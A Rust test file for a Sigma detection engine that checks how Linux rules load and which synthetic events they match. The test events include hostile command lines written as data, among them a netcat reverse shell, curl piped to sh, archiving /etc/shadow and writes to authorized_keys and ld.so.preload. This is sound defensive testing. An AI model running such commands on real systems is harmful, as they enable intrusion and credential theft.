//! Native Sigma against the corpus in `tests/sigma/rules/linux` (written in
//! the SigmaHQ style and layout by `tests/sigma/gen.py`): which rules load,
//! which are skipped and why, and what each loaded rule matches.

use std::path::Path;
use vigil_rules::{Example, Field, Loader, RuleSet, Scratch, Severity, Value};

fn load() -> (RuleSet, vigil_rules::Report) {
    let mut l = Loader::new();
    l.add_path(&Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/sigma/rules"));
    l.load()
}

fn event(spec: &str) -> Example {
    let mut values = Vec::new();
    for part in spec.split(" ;; ").filter(|p| !p.is_empty()) {
        let (k, v) = part.split_once('=').expect("field=value");
        let f = Field::by_name(k).unwrap_or_else(|| panic!("unknown field {k}"));
        let val = match f.ty() {
            vigil_rules::Type::Str => Value::Str(v.as_bytes().to_vec().into()),
            vigil_rules::Type::Int => Value::Int(v.parse().unwrap()),
            vigil_rules::Type::Bool => Value::Bool(v == "true"),
            vigil_rules::Type::Ip => Value::Ip(v.parse().unwrap()),
        };
        values.push((f, val));
    }
    Example {
        line: 0,
        want: true,
        values,
    }
}

#[test]
fn corpus_loads_and_skips_with_reasons() {
    let (set, r) = load();
    assert!(r.errors.is_empty(), "{:?}", r.errors);
    assert_eq!(r.files, 50);
    assert_eq!(r.sigma_rules, 42);
    assert_eq!(set.len(), 42);
    assert_eq!(r.sigma_by_category.get("process_creation"), Some(&29));
    assert_eq!(r.sigma_by_category.get("network_connection"), Some(&5));
    assert_eq!(r.sigma_by_category.get("file_event"), Some(&3));
    assert_eq!(r.sigma_by_category.get("auditd"), Some(&5));
    let mut skipped: Vec<(String, String)> = r
        .skipped
        .iter()
        .map(|s| (s.rule.clone(), s.class.clone()))
        .collect();
    skipped.sort();
    let want: Vec<(String, String)> = [
        ("Aggregation", "condition"),
        ("Any Linux log", "logsource"),
        ("SSH log line", "logsource"),
        ("Service stop record", "auditd"),
        ("Two of", "condition"),
        ("UTF-16 text", "modifier"),
        ("Unknown field", "field"),
        ("Windows process", "logsource"),
    ]
    .iter()
    .map(|(a, b)| (a.to_string(), b.to_string()))
    .collect();
    assert_eq!(skipped, want);
    // Metadata carried over.
    let r4 = set.rules().iter().find(|r| r.id == "vt-04").unwrap();
    assert_eq!(r4.severity, Severity::Low);
    assert_eq!(r4.ruleset.as_str(), "sigma");
    assert!(r4.tags.contains(&"attack.t1059.004".to_string()));
    assert_eq!(
        set.rules()
            .iter()
            .find(|r| r.id == "vt-07")
            .unwrap()
            .severity,
        Severity::Info
    );
}

const X: &str = "event.action=exec ;; ";

#[test]
fn every_modifier_and_condition_form_matches_as_specified() {
    let (set, _) = load();
    let b64 = |s: &str| vigil_rules::sigma::base64(s.as_bytes());
    let cases: Vec<(&str, String, bool)> = vec![
        ("vt-01", format!("{X}process.executable=/usr/bin/nc"), true),
        ("vt-01", format!("{X}process.executable=/usr/bin/ncat"), false),
        ("vt-01", format!("{X}process.executable=/USR/BIN/NC"), true),
        ("vt-02", format!("{X}process.command_line=nc -e /bin/sh 1.2.3.4"), true),
        ("vt-02", format!("{X}process.command_line=nc -e /bin/bash"), false),
        ("vt-03", format!("{X}process.executable=/dev/shm/x"), true),
        ("vt-03", format!("{X}process.executable=/usr/tmp/x"), false),
        ("vt-04", format!("{X}process.executable=/usr/bin/whoami"), true),
        ("vt-04", format!("{X}process.executable=/usr/bin/whoami2"), false),
        ("vt-05", format!("{X}process.command_line=x SECRET y"), true),
        ("vt-05", format!("{X}process.command_line=x secret y"), false),
        ("vt-06", format!("{X}process.command_line=curl http://x/y | sh"), true),
        ("vt-06", format!("{X}process.command_line=CURL http://x/y | SH"), true),
        ("vt-06", format!("{X}process.command_line=curl http://x/y | sh -x"), false),
        ("vt-07", format!("{X}process.executable=/usr/bin/python3"), true),
        ("vt-07", format!("{X}process.executable=/usr/bin/pthon3"), false),
        ("vt-08", format!("{X}process.command_line=echo * > f"), true),
        ("vt-08", format!("{X}process.command_line=echo a"), false),
        ("vt-09", format!("{X}process.command_line=base64 -d f"), true),
        ("vt-09", format!("{X}process.command_line=BASE64 -d f"), false),
        ("vt-09", format!("{X}process.command_line=x base64 -d f"), false),
        ("vt-10", format!("{X}process.command_line=BASE64 -D f"), true),
        ("vt-11", format!("{X}process.command_line=echo {} | base64 -d", b64("hello")), true),
        ("vt-11", format!("{X}process.command_line=echo hello"), false),
        ("vt-12", format!("{X}process.command_line=sh -c {}", b64("xcurl http://e")), true),
        ("vt-12", format!("{X}process.command_line=sh -c {}", b64("xycurl http://e")), true),
        ("vt-12", format!("{X}process.command_line=sh -c {}", b64("curl http://e")), true),
        ("vt-12", format!("{X}process.command_line=sh -c {}", b64("wget http://e")), false),
        ("vt-13", format!("{X}process.command_line=tool -s x"), true),
        ("vt-13", format!("{X}process.command_line=tool /s x"), true),
        ("vt-13", format!("{X}process.command_line=tool \u{2013}s x"), true),
        ("vt-13", format!("{X}process.command_line=tool s x"), false),
        ("vt-14", format!("{X}process.executable=/bin/bash ;; process.parent.executable=/usr/sbin/cron"), true),
        ("vt-14", format!("{X}process.executable=/bin/bash ;; process.parent.executable=/usr/sbin/sshd"), false),
        ("vt-15", format!("{X}process.executable=/usr/bin/curl"), true),
        ("vt-15", format!("{X}process.executable=/usr/bin/wget"), true),
        ("vt-15", format!("{X}process.executable=/usr/bin/ftp"), false),
        ("vt-16", format!("{X}process.executable=/bin/tar ;; process.command_line=tar cf x /etc/shadow"), true),
        ("vt-16", format!("{X}process.executable=/bin/tar ;; process.command_line=tar cf x /etc/passwd"), false),
        ("vt-17", format!("{X}process.executable=/x/bbb"), true),
        ("vt-17", format!("{X}process.executable=/x/ccc"), false),
        ("vt-18", format!("{X}process.executable=/bin/chmod ;; process.command_line=chmod +s x"), true),
        ("vt-18", format!("{X}process.executable=/bin/chmod ;; process.command_line=chmod +x x"), false),
        ("vt-19", format!("{X}process.executable=/usr/bin/find ;; process.command_line=find / -perm -4000"), true),
        ("vt-19", format!("{X}process.executable=/usr/bin/find ;; process.command_line=find / -name x"), false),
        ("vt-20", format!("{X}process.executable=/usr/bin/nmap"), true),
        ("vt-20", format!("{X}process.executable=/x ;; process.command_line=masscan -p1"), true),
        ("vt-20", format!("{X}process.executable=/x ;; process.command_line=ls"), false),
        ("vt-21", format!("{X}process.executable=/x/orphan"), true),
        ("vt-21", format!("{X}process.executable=/x/orphan ;; process.parent.executable=/sbin/init"), false),
        ("vt-22", format!("{X}process.executable=/x/withparent ;; process.parent.command_line=init"), true),
        ("vt-22", format!("{X}process.executable=/x/withparent"), false),
        ("vt-23", format!("{X}process.executable=/usr/bin/passwd ;; user.name=ROOT"), true),
        ("vt-23", format!("{X}process.executable=/usr/bin/passwd ;; user.name=alice"), false),
        ("vt-24", format!("{X}process.executable=/usr/bin/make ;; process.working_directory=/tmp/build"), true),
        ("vt-25", format!("{X}process.command_line=./XMRig --donate 0"), true),
        ("vt-25", format!("{X}process.command_line=ls"), false),
        ("vt-26", format!("{X}process.executable=/x/visible"), true),
        ("vt-26", format!("{X}process.executable=/x/hidden"), false),
        ("vt-27", format!("{X}process.executable=/x/second"), true),
        ("vt-27", format!("{X}process.executable=/x/third"), false),
        ("vt-28", format!("{X}process.executable=/x/daemonized ;; process.parent.pid=1"), true),
        ("vt-28", format!("{X}process.executable=/x/daemonized ;; process.parent.pid=2"), false),
        ("vt-29", format!("{X}process.executable=/bin/sh ;; process.parent.executable=/usr/bin/python3 ;; process.parent.command_line=python3 -m http.server"), true),
        // Process rules never fire on other events.
        ("vt-01", "event.action=open ;; process.executable=/usr/bin/nc".to_string(), false),
        ("vt-30", "event.action=connect ;; destination.port=4444 ;; network.direction=egress".to_string(), true),
        ("vt-30", "event.action=accept ;; destination.port=4444 ;; network.direction=ingress".to_string(), false),
        ("vt-50", "event.action=connect ;; destination.domain=abc.onion".to_string(), true),
        ("vt-50", "event.action=udp-send ;; destination.domain=x.onion".to_string(), true),
        ("vt-50", "event.action=connect ;; destination.domain=onion.example".to_string(), false),
        ("vt-50", "event.action=connect ;; destination.ip=10.1.1.1".to_string(), false),
        ("vt-31", "event.action=connect ;; destination.ip=172.20.1.1".to_string(), true),
        ("vt-31", "event.action=connect ;; destination.ip=172.32.1.1".to_string(), false),
        ("vt-32", "event.action=connect ;; destination.port=1024".to_string(), true),
        ("vt-32", "event.action=connect ;; destination.port=2048".to_string(), false),
        ("vt-33", "event.action=connect ;; destination.ip=192.168.4.4".to_string(), true),
        ("vt-34", "event.action=open ;; event.outcome=success ;; vigil.open.write=true ;; file.path=/root/.ssh/authorized_keys".to_string(), true),
        // file_event is a write: a read does not match.
        ("vt-34", "event.action=open ;; event.outcome=success ;; vigil.open.write=false ;; file.path=/root/.ssh/authorized_keys".to_string(), false),
        ("vt-35", "event.action=open ;; event.outcome=success ;; vigil.open.write=true ;; file.path=/etc/cron.d/job".to_string(), true),
        ("vt-36", "event.action=open ;; event.outcome=success ;; vigil.open.write=true ;; file.path=/etc/ld.so.preload".to_string(), true),
        ("vt-37", format!("{X}process.args.0=nc ;; process.args.1=-l"), true),
        ("vt-37", format!("{X}process.args.0=nc ;; process.args.1=-z"), false),
        ("vt-38", "event.action=open ;; file.path=/etc/sudoers".to_string(), true),
        ("vt-39", "event.action=memfd-create".to_string(), true),
        ("vt-39", "event.action=exec".to_string(), false),
        ("vt-40", format!("{X}process.executable=/usr/bin/nmap"), true),
        ("vt-40", "event.action=open ;; process.executable=/usr/bin/nmap".to_string(), false),
        ("vt-41", format!("{X}process.command_line=dd if=/dev/zero of=x"), true),
        ("vt-41", format!("{X}process.command_line=dd of=x"), false),
    ];
    let mut scratch = Scratch::new();
    for (id, ev, want) in &cases {
        let mut out = Vec::new();
        set.evaluate(&event(ev), &mut scratch, &mut out);
        let hit = out.iter().any(|r| r.id == *id);
        assert_eq!(
            hit,
            *want,
            "rule {id} on `{ev}` (matched: {:?})",
            out.iter().map(|r| &r.id).collect::<Vec<_>>()
        );
    }
}

#[test]
fn malformed_sigma_is_an_error_with_file_and_line() {
    let mut l = Loader::new();
    l.add_source(
        "bad.yml",
        "title: T\nlogsource:\n  product: linux\n  category: process_creation\ndetection:\n  sel:\n    Image: x\n  condition: sel\nlevel: severe\n",
    );
    let (_, r) = l.load();
    assert_eq!(r.errors.len(), 1);
    assert_eq!(
        r.errors[0].to_string(),
        "bad.yml:9: Sigma rule `T`: field `level`: `severe` is not a Sigma level"
    );
}
